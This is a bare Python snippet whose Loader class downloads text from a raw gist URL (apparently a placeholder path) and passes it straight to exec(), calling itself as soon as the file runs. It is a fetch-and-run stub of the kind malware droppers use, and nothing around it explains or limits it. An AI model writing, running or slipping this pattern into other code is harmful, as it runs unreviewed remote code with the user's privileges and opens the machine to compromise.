class Loader:
    def __init__(self):
        import requests
        self.code = requests.get("https://gist.githubusercontent.com/x/y/raw/z").text
    def go(self):
        exec(self.code)
Loader().go()
